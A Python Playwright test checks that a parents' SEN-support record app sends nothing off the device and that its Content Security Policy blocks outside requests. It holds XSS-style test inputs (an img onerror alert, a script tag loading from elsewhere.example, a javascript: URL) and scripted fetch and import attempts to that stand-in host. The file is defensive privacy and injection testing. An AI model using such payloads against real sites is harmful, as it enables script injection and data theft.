"""The whole app with a canary in every field, and markup in it: nothing asks another address, and nothing tells of it.

Chromium's own log of its network is the record: every request stands in it, whatever part of the page or the browser
made it, and also those that are refused. Nothing but this computer can be reached.
"""

from __future__ import annotations

import json
from pathlib import Path

import pytest
from playwright.async_api import BrowserContext, Playwright

from pwa.serve import SiteServer
from walk import Walk, browser, change, copy_of

pytestmark = pytest.mark.browser

CANARY = "Canary-7f3a"
LETTERS = (
    "Za\u017c\u00f3\u0142\u0107 \u021aar\u0103 \u015e\u0131k \u0645\u0631\u064a\u0645 "
    "\u067e\u06cc \u09ae\u09be \u674e\u660e \U0001f98b"
)
"""Polish, Romanian, Turkish, Arabic, Urdu, Bengali, Chinese and an emoji."""
MARKUP = "<img src=//elsewhere.example/a onerror=alert(1)><script src=//elsewhere.example/b></script>"
TYPED = f"{CANARY} {LETTERS} {MARKUP} javascript:alert(2)"
FORMS = {
    "/settings/child/new": ("Add a child", "Save child"),
    "/record/concern/new": ("New concern", "Save concern"),
    "/record/conversation/new": ("New conversation", "Save conversation"),
    "/record/meeting/new": ("New meeting", "Save meeting"),
}
MEETING = {
    "prepare": ("Get ready", "Add my question"),
    "ahead": ("Message to send ahead", "Copy this message"),
    "now": ("At the meeting", "The meeting is over"),
}
PLACES = {"/": "Today", "/record": "Record", "/plan": "Plan", "/guide": "Guide", "/settings": "Settings"}
WATCH = """addEventListener("securitypolicyviolation", ({ blockedURI, violatedDirective }) =>
  console.error("REFUSED", violatedDirective, blockedURI));
"""
ALONE = "--host-resolver-rules=MAP * ~NOTFOUND , EXCLUDE localhost"


async def test_nothing_asks_another_address_and_no_word_gets_out(
    playwright: Playwright, still: Path, tmp_path: Path
) -> None:
    site = copy_of(still, tmp_path / "site")
    change(site, "worker.js", WATCH + (still / "worker.js").read_text(encoding="utf-8"))
    log = tmp_path / "net.json"
    told: list[str] = []
    with SiteServer(site) as server:
        args = [f"--log-net-log={log}", "--net-log-capture-mode=IncludeSensitive", ALONE]
        async with browser(playwright, tmp_path / "profile", *args, viewport=TALL) as context:
            listen(context, told)
            await context.add_init_script(WATCH)
            walk = await Walk.start(context, server.url)
            await fill_everything(walk, told)
            before = list(told)
            await walk.page.evaluate("fetch('https://elsewhere.example/').catch(() => {})")
            (worker,) = walk.page.workers
            await worker.evaluate("import('https://elsewhere.example/a.js').catch(() => {})")
            await walk.frames(3)
    # so it would have been told of before, too
    assert "REFUSED connect-src https://elsewhere.example/" in told
    assert "REFUSED script-src-elem https://elsewhere.example/a.js" in told  # this one by the worker
    asked = requests(log)
    assert [address for address in asked if not address.startswith(server.url)] == []
    assert len(asked) > 40
    assert CANARY not in log.read_text(encoding="utf-8")
    assert [line for line in before if CANARY in line or "REFUSED" in line] == []
    assert any(server.url in line for line in before)


def listen(context: BrowserContext, told: list[str]) -> None:
    """Notes every line of the console, and everything of a request that could carry a word."""
    context.on("console", lambda line: told.append(line.text))
    context.on("weberror", lambda error: told.append(str(error.error)))
    context.on("request", lambda asked: told.append(f"{asked.method} {asked.url} {asked.headers} {asked.post_data}"))


async def fill_everything(walk: Walk, told: list[str]) -> None:
    """Types the canary into every field there is, saves it, and looks at every screen that then shows it."""
    await walk.tap("Start")
    await walk.type("Your child", TYPED)
    await walk.choose("School")
    await walk.tap("Next")
    await walk.choose("My child gets SEN support")
    await walk.tap("Start my record")
    await walk.see("Saved. This record is about")
    for address, (heading, save) in FORMS.items():
        await walk.visit(address, heading)
        await unfold(walk, heading)
        for name in await walk.page.get_by_role("textbox").evaluate_all(NAMES):
            await walk.type(name, TYPED)
        await walk.tap(save)
        await walk.see("Nothing you wrote is lost.")
        await note(walk, told)
        for name in await walk.page.get_by_role("textbox").evaluate_all(NAMES):
            if name.startswith(("Day,", "Month,", "Year,", "What time")):
                await walk.type(name, "")
        await mend(walk, heading)
        await walk.tap(save)
        await walk.see("Saved.")
        await note(walk, told)
        if "meeting" in address:
            await meet(walk, told)
    await walk.page.reload()  # and all of it once more out of what is kept
    await walk.ready()
    await walk.visit("/record", "Record")
    await walk.type("Search the record", TYPED)
    for address, heading in PLACES.items():
        await walk.visit(address, heading)
        await note(walk, told)


async def unfold(walk: Walk, heading: str) -> None:
    """Shows the fields that come only when they are asked for."""
    if heading == "New concern":
        await walk.tap("Add more detail")
        await walk.page.get_by_role("textbox", name="How often").wait_for(state="attached")
    if heading == "New conversation":
        await walk.tap("Add what was promised")
        await walk.page.get_by_role("textbox", name="What did they promise?").wait_for(state="attached")
    if heading == "New meeting":
        await walk.tap("Write what was agreed")
        await walk.tap("Add an action")
        await walk.page.get_by_role("textbox", name="Who will do it? (action 1)").wait_for(state="attached")


async def mend(walk: Walk, heading: str) -> None:
    """Chooses what must be chosen."""
    if heading == "Add a child":
        await walk.choose("School")
        await walk.choose("My child gets SEN support")
    if heading == "New concern":
        await walk.tap("Today")
    if heading == "New conversation":
        await walk.choose("An email")
        await walk.tap("Today")
    if heading == "New meeting":
        await walk.choose("To make a plan")


async def meet(walk: Walk, told: list[str]) -> None:
    """The canary in everything that is written before a meeting and at it."""
    at = (await walk.page.evaluate("location.hash")).removeprefix("#")
    for step, (heading, save) in MEETING.items():
        await walk.visit(f"{at}/{step}", heading)
        for name in await walk.page.get_by_role("textbox").evaluate_all(NAMES):
            await walk.type(name, TYPED)
        await walk.tap(save)
        await note(walk, told)


NAMES = "fields => fields.map((field) => field.getAttribute('aria-label').split('\\n')[0])"
TALL = {"width": 390, "height": 4000}
"""So that every field of a form is on the screen."""


async def note(walk: Walk, told: list[str]) -> None:
    """Notes the title, the address and the names of what the browser keeps."""
    await walk.frames(10)
    told += await walk.page.evaluate(
        "caches.keys().then((names) => [document.title, location.href, ...names, ...Object.keys(localStorage)])"
    )


def requests(log: Path) -> list[str]:
    """Every address that a page or a worker of a page asked for.

    What Chromium asks its maker by itself (the time, its own updates, what the fields of a form may be for) has no
    origin as its initiator. No page can prevent it, and none can begin it.
    """
    kept = json.loads(log.read_text(encoding="utf-8"))
    kind = kept["constants"]["logEventTypes"]["URL_REQUEST_START_JOB"]
    told = [event["params"] for event in kept["events"] if event["type"] == kind and "url" in event.get("params", {})]
    return [request["url"] for request in told if request["initiator"] != "not an origin"]
